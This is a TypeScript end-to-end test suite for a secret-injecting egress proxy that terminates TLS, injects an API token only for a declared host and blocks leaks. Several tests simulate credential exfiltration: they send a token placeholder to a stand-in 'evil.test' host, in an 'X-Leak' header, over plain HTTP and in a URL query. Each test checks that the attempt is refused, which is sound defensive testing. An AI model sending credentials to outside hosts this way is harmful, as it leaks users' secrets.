/**
 * End to end over real loopback sockets: client → proxy (CONNECT) → broker TLS termination with
 * the session CA → injection → re-encryption → an HTTPS echo server presenting a certificate from a
 * separate "upstream" test CA (trusted only through network.upstreamCA). Runs twice: through the
 * small reference proxy in src/secrets/testing.ts and through the real egress proxy (startProxy).
 */
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { rootCertificates } from 'node:tls';
import type { EventInput } from '../../src/audit/types.js';
import { loadPolicyText } from '../../src/policy/index.js';
import { startSecretBroker, type SecretBroker } from '../../src/secrets/index.js';
import { createSessionCA } from '../../src/secrets/x509.js';
import { httpsViaProxy, httpViaProxy, startEchoServer, startMiniProxy, type EchoServer } from '../../src/secrets/testing.js';
import { startProxy } from '../../src/network/index.js';

const REAL = 'ghp_e2eREALsecretVALUE_9f8e7d6c5b4a';

class Sink {
  events: EventInput[] = [];
  emit(e: EventInput) {
    this.events.push(e);
  }
  secret(action: string) {
    return this.events.filter((e) => e.kind === 'secret' && e.action === action);
  }
}

interface World {
  dir: string;
  api: EchoServer;
  evil: EchoServer;
  plain: import('node:http').Server;
  plainPort: number;
  plainGot: string[];
  upstreamCaPem: string;
}

async function makeWorld(): Promise<World> {
  const dir = mkdtempSync(join(tmpdir(), 'airlock-secrets-e2e-'));
  const upstreamCA = createSessionCA('upstream test CA');
  writeFileSync(join(dir, 'upstream-ca.pem'), upstreamCA.certPem);
  const api = await startEchoServer(upstreamCA, 'api.test');
  const evil = await startEchoServer(upstreamCA, 'evil.test');
  const { createServer } = await import('node:http');
  const plainGot: string[] = [];
  const plain = createServer((req, res) => {
    plainGot.push(JSON.stringify([req.url, req.rawHeaders]));
    res.end('ok');
  });
  await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r));
  return { dir, api, evil, plain, plainPort: (plain.address() as import('node:net').AddressInfo).port, plainGot, upstreamCaPem: upstreamCA.certPem };
}

function policyFor(w: World, extra = '') {
  const p = w.api.port;
  const e = w.evil.port;
  const yaml = `
version: 1
network:
  allow:
    - api.test:${p}
    - evil.test:${e}
    - { host: rules.test, ports: [${e}], methods: [GET, POST] }
    - plain.test:${w.plainPort}
    - { host: 127.0.0.0/8, ports: [${p}, ${e}, ${w.plainPort}] }
  upstreamCA: upstream-ca.pem
secrets:
  API_TOKEN:
    from: env:AIRLOCK_E2E_TOKEN
    inject: { host: "api.test:${p}", header: Authorization, format: "Bearer {}" }
${extra}`;
  return loadPolicyText(yaml, join(w.dir, 'airlock.yaml'));
}

type ProxyKind = 'reference proxy (secrets/testing)' | 'egress proxy (network/startProxy)';

async function startWith(kind: ProxyKind, w: World, broker: SecretBroker, policy: ReturnType<typeof policyFor>, sink: Sink, opts: { trustUpstream?: boolean } = {}) {
  const names: Record<string, number> = { 'api.test': w.api.port, 'evil.test': w.evil.port, 'rules.test': w.evil.port, 'plain.test': w.plainPort };
  if (kind === 'reference proxy (secrets/testing)') {
    const trust = opts.trustUpstream === false ? [...rootCertificates] : broker.upstreamTrust;
    const p = await startMiniProxy({ interceptor: broker.interceptor, trust, resolve: (h) => names[h] });
    return { port: p.port, close: () => p.close() };
  }
  const sockDir = mkdtempSync(join(tmpdir(), 'airlock-px-'));
  const proxy = await startProxy({
    policy: opts.trustUpstream === false ? { network: { ...policy.network, upstreamCA: undefined } } : policy,
    socketPath: join(sockDir, 'p.sock'),
    audit: sink,
    interceptor: broker.interceptor,
    resolver: async (h: string) => (names[h] !== undefined || h === '127.0.0.1' ? [{ address: '127.0.0.1', family: 4 }] : []),
    tcpPort: 0,
  });
  return {
    port: proxy.tcpPort!,
    close: async () => {
      await proxy.close();
      rmSync(sockDir, { recursive: true, force: true });
    },
  };
}

function assertNoValueAnywhere(w: World, sink: Sink) {
  for (const r of w.evil.received) assert.ok(!JSON.stringify(r).includes(REAL), 'the other host received the real value');
  assert.ok(!w.plainGot.join('').includes(REAL), 'the plain-HTTP host received the real value');
  assert.ok(!JSON.stringify(sink.events).includes(REAL), 'an audit event holds the real value');
}

for (const kind of ['reference proxy (secrets/testing)', 'egress proxy (network/startProxy)'] as ProxyKind[]) {
  describe(`secrets end to end through the ${kind}`, () => {
    let w: World;
    let broker: SecretBroker;
    let sink: Sink;
    let proxy: { port: number; close(): Promise<void> };
    let ca: string[];
    before(async () => {
      w = await makeWorld();
      sink = new Sink();
      const policy = policyFor(w);
      broker = await startSecretBroker({ policy, sessionId: `e2e-${Math.random().toString(16).slice(2, 10)}`, audit: sink, env: { AIRLOCK_E2E_TOKEN: REAL } });
      proxy = await startWith(kind, w, broker, policy, sink);
      ca = [broker.caCertPem];
    });
    after(async () => {
      await proxy.close();
      await broker.close();
      await w.api.close();
      await w.evil.close();
      w.plain.close();
      rmSync(w.dir, { recursive: true, force: true });
    });

    test('the real value arrives at the declared host (TLS terminated with the session CA, re-encrypted upstream)', async () => {
      const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, path: '/user', ca, headers: { Authorization: `token ${broker.env.API_TOKEN}` } });
      assert.equal(r.status, 200, r.body);
      const got = w.api.received.at(-1)!;
      assert.equal(got.headers.authorization, `Bearer ${REAL}`);
      assert.equal(got.sni, 'api.test', 'the proxy re-encrypted with SNI = the declared host');
      // the echo server reflects the request headers: the value is masked on the way back in
      assert.ok(!r.body.includes(REAL), 'a reflected credential reached the client');
      assert.match(r.body, /Bearer \[airlock:redacted\]/);
      assert.ok(sink.secret('redact').length >= 1);
      assert.ok(sink.secret('use').some((e) => e.subject === 'API_TOKEN' && e.detail?.host === `api.test:${w.api.port}`));
      assertNoValueAnywhere(w, sink);
    });

    test('the client is served a session-CA leaf for the host: a client that does not trust the session CA fails', async () => {
      await assert.rejects(httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, ca: [w.upstreamCaPem] }), /self[- ]signed|unable to verify|local issuer/i);
    });

    test('other hosts stay opaque tunnels: the client sees the real upstream certificate, and only the placeholder can travel there', async () => {
      const before = w.evil.received.length;
      const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'evil.test', port: w.evil.port, ca: [w.upstreamCaPem], headers: { Authorization: `Bearer ${broker.env.API_TOKEN}` } });
      assert.equal(r.status, 200);
      assert.equal(w.evil.received.length, before + 1);
      assert.equal(w.evil.received.at(-1)!.headers.authorization, `Bearer ${broker.env.API_TOKEN}`);
      assertNoValueAnywhere(w, sink);
    });

    test('placeholder toward a terminated non-declared host (method rules) is blocked as exfiltration', async () => {
      const before = w.evil.received.length;
      const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'rules.test', port: w.evil.port, ca, headers: { 'X-Leak': broker.env.API_TOKEN! } });
      assert.equal(r.status, 403);
      assert.match(String(r.headers['x-airlock-deny']), /API_TOKEN/);
      assert.equal(w.evil.received.length, before, 'nothing reached the host');
      assert.ok(sink.secret('exfiltration').length >= 1);
      assertNoValueAnywhere(w, sink);
    });

    test('placeholder over plain HTTP is blocked as exfiltration', async () => {
      const r = await httpViaProxy({ proxyPort: proxy.port, url: `http://plain.test:${w.plainPort}/x`, headers: { Host: `plain.test:${w.plainPort}`, Authorization: `Bearer ${broker.env.API_TOKEN}` } });
      assert.equal(r.status, 403);
      assert.match(String(r.headers['x-airlock-deny']), /API_TOKEN/);
      assert.equal(w.plainGot.length, 0);
    });

    test('placeholder in the URL of the declared host is blocked', async () => {
      const before = w.api.received.length;
      const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, path: `/log?t=${broker.env.API_TOKEN}`, ca });
      assert.equal(r.status, 403);
      assert.equal(w.api.received.length, before);
    });

    test('SNI that differs from the CONNECT target: handshake refused, nothing forwarded', async () => {
      const before = w.api.received.length + w.evil.received.length;
      await assert.rejects(httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, servername: 'evil.test', ca }));
      await assert.rejects(httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, servername: false, ca }));
      assert.equal(w.api.received.length + w.evil.received.length, before);
      assert.ok(sink.secret('refuse').some((e) => e.detail?.reason === 'sni-mismatch'));
      assert.ok(sink.secret('refuse').some((e) => e.detail?.reason === 'sni-missing'));
    });

    test('inner Host that differs from the CONNECT target: refused, nothing forwarded', async () => {
      const before = w.api.received.length + w.evil.received.length;
      const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, ca, hostHeader: `evil.test:${w.evil.port}`, headers: { Authorization: `Bearer ${broker.env.API_TOKEN}` } });
      assert.ok(r.status >= 400 && r.status < 500, String(r.status));
      assert.equal(w.api.received.length + w.evil.received.length, before);
    });

    test('a real client (curl) with the merged CA bundle gets the value injected', async (t) => {
      if (spawnSync('curl', ['--version']).status !== 0) return t.skip('curl not installed');
      const files = broker.sandboxCaFiles(join(w.dir, `ca-${kind.length}`));
      // async: the proxy runs in this process, a spawnSync would deadlock it
      const r = await new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) =>
        execFile('curl', ['-sS', '--max-time', '10', '--proxy', `http://127.0.0.1:${proxy.port}`, '-H', `Authorization: Bearer ${broker.env.API_TOKEN}`, `https://api.test:${w.api.port}/curl`], { env: { PATH: process.env.PATH, ...files.env } }, (err, stdout, stderr) =>
          resolve({ status: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr }),
        ),
      );
      assert.equal(r.status, 0, r.stderr);
      assert.match(r.stdout, /"\/curl"/);
      assert.equal(w.api.received.at(-1)!.headers.authorization, `Bearer ${REAL}`);
    });
  });
}

describe('secrets end to end: expiry and upstream verification', () => {
  for (const kind of ['reference proxy (secrets/testing)', 'egress proxy (network/startProxy)'] as ProxyKind[]) {
    test(`after ttl the placeholder is refused with a clear reason (${kind})`, async () => {
      const w = await makeWorld();
      const sink = new Sink();
      const policy = loadPolicyText(`${policyForText(w)}    ttl: 1500ms\n`, join(w.dir, 'airlock.yaml'));
      const t0 = Date.now();
      const broker = await startSecretBroker({ policy, sessionId: 'e2e-ttl', audit: sink, env: { AIRLOCK_E2E_TOKEN: REAL } });
      const proxy = await startWith(kind, w, broker, policy, sink);
      try {
        const ca = [broker.caCertPem];
        const ok = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, ca, headers: { Authorization: `Bearer ${broker.env.API_TOKEN}` } });
        assert.equal(ok.status, 200);
        await sleep(Math.max(0, 1700 - (Date.now() - t0)));
        const before = w.api.received.length;
        const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, ca, headers: { Authorization: `Bearer ${broker.env.API_TOKEN}` } });
        assert.equal(r.status, 403);
        assert.match(String(r.headers['x-airlock-deny']), /secret API_TOKEN expired at/);
        assert.equal(w.api.received.length, before);
        assert.equal(sink.secret('refuse').length, 1);
      } finally {
        await proxy.close();
        await broker.close();
        await w.api.close();
        await w.evil.close();
        w.plain.close();
        rmSync(w.dir, { recursive: true, force: true });
      }
    });

    test(`an upstream that the system store and upstreamCA do not vouch for gets nothing (${kind})`, async () => {
      const w = await makeWorld();
      const sink = new Sink();
      const policy = policyFor(w);
      const broker = await startSecretBroker({ policy, sessionId: 'e2e-up', audit: sink, env: { AIRLOCK_E2E_TOKEN: REAL } });
      const proxy = await startWith(kind, w, broker, policy, sink, { trustUpstream: false });
      try {
        const r = await httpsViaProxy({ proxyPort: proxy.port, host: 'api.test', port: w.api.port, ca: [broker.caCertPem], headers: { Authorization: `Bearer ${broker.env.API_TOKEN}` } });
        assert.equal(r.status, 502);
        assert.equal(w.api.received.length, 0, 'no request reached the unverified upstream');
      } finally {
        await proxy.close();
        await broker.close();
        await w.api.close();
        await w.evil.close();
        w.plain.close();
        rmSync(w.dir, { recursive: true, force: true });
      }
    });
  }
});

function policyForText(w: World): string {
  const p = w.api.port;
  const e = w.evil.port;
  return `
version: 1
network:
  allow:
    - api.test:${p}
    - evil.test:${e}
    - { host: 127.0.0.0/8, ports: [${p}, ${e}, ${w.plainPort}] }
  upstreamCA: upstream-ca.pem
secrets:
  API_TOKEN:
    from: env:AIRLOCK_E2E_TOKEN
    inject: { host: "api.test:${p}", header: Authorization, format: "Bearer {}" }
`;
}
